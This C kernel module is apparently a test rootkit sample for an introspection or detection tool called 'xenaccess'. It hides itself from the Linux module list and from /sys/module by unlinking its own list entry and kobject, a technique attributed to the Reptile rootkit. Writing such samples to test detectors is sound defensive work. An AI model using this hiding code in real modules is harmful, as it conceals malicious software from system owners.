/* Test rootkit (g): hides itself from the module list and from /sys/module
 * (Reptile's technique: list_del of THIS_MODULE->list, kobject_del of its
 * module kobject). Its code must stay findable by __module_address(), so it
 * stays in the module address tree. */
#include <linux/module.h>
#include <linux/kobject.h>
#include <linux/list.h>

static int __init rk_hidekobj_init(void)
{
    list_del(&THIS_MODULE->list);
    kobject_del(&THIS_MODULE->mkobj.kobj);
    pr_info("rk_hidekobj: unlinked from the module list and /sys/module\n");
    return 0;
}
module_init(rk_hidekobj_init);
/* no exit: once unlinked the module can never be removed */
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("xenaccess test rootkit: module list and kobject unlink");
